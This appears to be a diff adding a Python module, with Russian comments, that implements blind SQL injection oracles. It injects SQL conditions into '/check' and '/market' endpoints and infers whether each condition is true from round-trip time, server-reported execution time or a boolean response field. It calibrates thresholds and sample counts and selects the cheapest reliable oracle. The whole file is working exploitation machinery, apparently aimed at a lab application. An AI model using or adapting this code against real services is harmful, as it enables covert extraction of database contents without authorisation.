@@ -0,0 +1,222 @@
+import time
+import statistics
+from typing import Dict, List, Optional, Tuple
+
+
+# Поля ответа, через которые сервер сам сообщает время выполнения и
+# результат условия: (поле времени, множитель к секундам, булево поле)
+ENDPOINT_FIELDS = {
+    '/check': ('time', 1.0, 'condition_was_true'),
+    '/market': ('execution_time_ms', 1e-3, 'has_delay'),
+}
+
+# Заведомо истинное и ложное условие для калибровки по endpoint'ам: в /market
+# traders соединена с market_orders под псевдонимом t, и голый id неоднозначен
+CALIBRATION_CONDITIONS = {
+    '/check': ("id = 1", "id = 99"),
+    '/market': ("t.id = 1", "t.id = 99"),
+}
+
+
+class TimingOracle:
+    """
+    Оракул по времени ответа (RTT, измеренный клиентом).
+    Решение - медиана нескольких наблюдений против порога, порог и число
+    наблюдений на решение подбираются калибровкой.
+    """
+
+    name = 'rtt'
+
+    def __init__(self, attack, path: str = '/check', threshold: Optional[float] = None,
+                 samples: int = 5):
+        self.attack = attack
+        self.path = path
+        self.threshold = threshold if threshold is not None else attack.sleep_threshold
+        self.samples = samples
+        # Половина зазора между медианами классов при калибровке - масштаб уверенности
+        self.margin: Optional[float] = None
+
+        self.observations = 0
+        self.decisions = 0
+        self.observe_time = 0.0
+        self.calibration_requests = 0
+
+    def observe(self, condition: str) -> Optional[float]:
+        if self.path == '/check':
+            return self.attack.send_request(condition)
+        result = self.attack.fetch_json(self.path, {'condition': condition})
+        return result[0] if result else None
+
+    def _timed_observe(self, condition: str) -> Optional[float]:
+        start = time.perf_counter()
+        value = self.observe(condition)
+        self.observe_time += time.perf_counter() - start
+        self.observations += 1
+        return value
+
+    def decide(self, condition: str, samples: Optional[int] = None) -> bool:
+        return self.decide_with_confidence(condition, samples)[0]
+
+    def decide_with_confidence(self, condition: str, samples: Optional[int] = None) -> Tuple[bool, float]:
+        """
+        Решение и уверенность. После калибровки уверенность - запас медианы
+        до порога в долях margin (при k=1 доля согласных замеров всегда 1.0
+        и ничего не говорит), без калибровки - доля замеров по ту же сторону порога.
+        """
+        samples = samples or self.samples
+        values = []
+        # Потерянный запрос (таймаут, сброс соединения под нагрузкой)
+        # повторяется: иначе он молча превратился бы в "ложно"
+        for _ in range(samples * 3):
+            value = self._timed_observe(condition)
+            if value is not None:
+                values.append(value)
+                if len(values) == samples:
+                    break
+        self.decisions += 1
+
+        if len(values) < samples / 2:
+            return False, 0.0
+        median = statistics.median(values)
+        result = median > self.threshold
+        if self.margin:
+            return result, min(1.0, abs(median - self.threshold) / self.margin)
+        agree = sum(1 for v in values if (v > self.threshold) == result)
+        return result, agree / len(values)
+
+    def calibrate(self, pool_size: int = 30, max_samples: int = 9) -> Optional[int]:
+        """
+        Набирает по pool_size наблюдений известно-истинного и известно-ложного
+        условия, ставит порог между медианами и находит наименьшее нечетное
+        число наблюдений, при котором все решения на пуле верны.
+        None - сигнал ненадежен на этом endpoint'е.
+        """
+        true_cond, false_cond = CALIBRATION_CONDITIONS[self.path]
+        pools = []
+        for condition in (true_cond, false_cond):
+            values = [self._timed_observe(condition) for _ in range(pool_size)]
+            pools.append([v for v in values if v is not None])
+
+        true_pool, false_pool = pools
+        if len(true_pool) < pool_size / 2 or len(false_pool) < pool_size / 2:
+            return None
+
+        true_median = statistics.median(true_pool)
+        false_median = statistics.median(false_pool)
+        if true_median <= false_median:
+            return None
+        self.threshold = (true_median + false_median) / 2
+        self.margin = (true_median - false_median) / 2
+
+        for k in range(1, max_samples + 1, 2):
+            if self._pool_correct(true_pool, k, True) and self._pool_correct(false_pool, k, False):
+                self.samples = k
+                break
+        else:
+            return None
+
+        # Счетчики решений ведутся с чистого листа, стоимость калибровки отдельно
+        self.calibration_requests = self.observations
+        return self.samples
+
+    def _pool_correct(self, pool: List[float], k: int, expected: bool) -> bool:
+        # Скользящие окна по k наблюдений имитируют решения с k замерами
+        for i in range(len(pool) - k + 1):
+            if (statistics.median(pool[i:i + k]) > self.threshold) != expected:
+                return False
+        return True
+
+    def cost_per_decision(self) -> float:
+        """Ожидаемое время на одно решение (с), по которому выбирается оракул"""
+        if not self.observations:
+            return float('inf')
+        return self.samples * self.observe_time / self.observations
+
+    def state(self) -> Dict:
+        """Результат калибровки, достаточный для восстановления оракула"""
+        return {'name': self.name, 'path': self.path, 'threshold': self.threshold,
+                'samples': self.samples, 'margin': self.margin}
+
+    @classmethod
+    def from_state(cls, attack, state: Dict) -> 'TimingOracle':
+        oracle = ORACLES[state['name']](attack, state['path'], state['threshold'], state['samples'])
+        oracle.margin = state.get('margin')
+        return oracle
+
+    def stats(self) -> Dict:
+        return {
+            'oracle': self.name,
+            'path': self.path,
+            'threshold': self.threshold,
+            'samples_per_decision': self.samples,
+            'calibration_requests': self.calibration_requests,
+            'observations': self.observations - self.calibration_requests,
+            'decisions': self.decisions,
+            'observed_per_decision': (
+                (self.observations - self.calibration_requests) / self.decisions
+                if self.decisions else None
+            ),
+        }
+
+
+class ServerTimeOracle(TimingOracle):
+    """Оракул по времени выполнения, которое сервер сам пишет в тело ответа"""
+
+    name = 'server_time'
+
+    def observe(self, condition: str) -> Optional[float]:
+        time_field, scale, _ = ENDPOINT_FIELDS[self.path]
+        result = self.attack.fetch_json(self.path, {'condition': condition})
+        if not result or time_field not in result[1]:
+            return None
+        return result[1][time_field] * scale
+
+
+class BooleanOracle(TimingOracle):
+    """Оракул по булеву полю ответа: время не нужно вовсе"""
+
+    name = 'boolean'
+
+    def __init__(self, attack, path: str = '/check', threshold: Optional[float] = None,
+                 samples: int = 1):
+        super().__init__(attack, path, 0.5 if threshold is None else threshold, samples)
+
+    def observe(self, condition: str) -> Optional[float]:
+        _, _, bool_field = ENDPOINT_FIELDS[self.path]
+        result = self.attack.fetch_json(self.path, {'condition': condition})
+        if not result or bool_field not in result[1]:
+            return None
+        return 1.0 if result[1][bool_field] else 0.0
+
+
+ORACLES = {
+    'boolean': BooleanOracle,
+    'server_time': ServerTimeOracle,
+    'rtt': TimingOracle,
+}
+
+
+def select_oracle(attack, paths=None, candidates=None) -> Optional[TimingOracle]:
+    """
+    Калибрует все оракулы на каждом endpoint'е (по умолчанию - на всех из
+    ENDPOINT_FIELDS) и возвращает самую дешевую надежную пару оракул/endpoint
+    (минимум времени на решение). Результаты калибровки - в attack.oracle_report.
+    """
+    report = []
+    best = None
+    for path in paths or ENDPOINT_FIELDS:
+        for name in candidates or ORACLES:
+            oracle = ORACLES[name](attack, path)
+            samples = oracle.calibrate()
+            report.append({
+                'oracle': name,
+                'path': path,
+                'reliable': samples is not None,
+                'samples_per_decision': samples,
+                'cost_ms': oracle.cost_per_decision() * 1000 if samples else None,
+            })
+            if samples is not None and (best is None or oracle.cost_per_decision() < best.cost_per_decision()):
+                best = oracle
+
+    attack.oracle_report = report
+    return best